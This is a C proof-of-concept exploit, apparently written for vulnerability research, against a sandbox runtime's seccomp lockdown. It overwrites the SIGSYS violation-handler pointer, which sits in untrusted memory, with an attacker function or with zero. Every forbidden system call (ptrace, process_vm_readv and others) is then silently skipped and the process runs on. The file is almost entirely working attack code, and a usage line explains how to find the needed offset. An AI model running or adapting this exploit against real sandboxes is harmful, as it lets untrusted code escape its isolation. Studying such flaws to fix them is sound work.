// Fail-open on 6.12: the lockdown's violation handler (ViolationHandler) is
// taken over by the runtime's signal entry like any program handler, so its
// pointer lands in g_handlers[SIGSYS] (signals.cc:138), which is untrusted
// memory "on purpose". Untrusted code points it at its own function (or 0):
// every forbidden system call is then skipped and the process runs on.
// Usage: sigsys_handler_forge HEX  where HEX = &g_handlers - &main (nm).
#define _GNU_SOURCE
#include "common.h"
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>

struct Handler { uint64_t fn, mask; int flags; };
static volatile int hits;
static void mine(int sig, siginfo_t* si, void* uc) {
  (void)uc;
  hits++;
  dprintf(1, "attacker handler: signal %d, seccomp trap of syscall %d swallowed\n", sig, si->si_syscall);
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  long off = strtol(argv[1], 0, 16);
  setup(1);
  struct Handler* h = (struct Handler*)((char*)(void*)main + off);
  printf("g_handlers at %p; [SIGSYS].fn = %#lx\n", (void*)h, (unsigned long)h[SIGSYS].fn);
  fflush(stdout);
  h[SIGSYS].fn = (uint64_t)mine;
  long r1 = syscall(SYS_ptrace, PTRACE_TRACEME, 0, 0, 0);
  printf("after ptrace: rc %ld\n", r1);
  long r2 = syscall(SYS_pkey_alloc, 0, 0);
  printf("after pkey_alloc: rc %ld\n", r2);
  long r3 = syscall(SYS_process_vm_readv, getpid(), 0, 0, 0, 0, 0);
  printf("after process_vm_readv: rc %ld\n", r3);
  h[SIGSYS].fn = 0;  // or silence them entirely
  long r4 = syscall(SYS_seccomp, 0, 0, 0);
  printf("after seccomp with fn=0: rc %ld; %d violations swallowed, exiting 0\n", r4, hits);
  return 0;
}
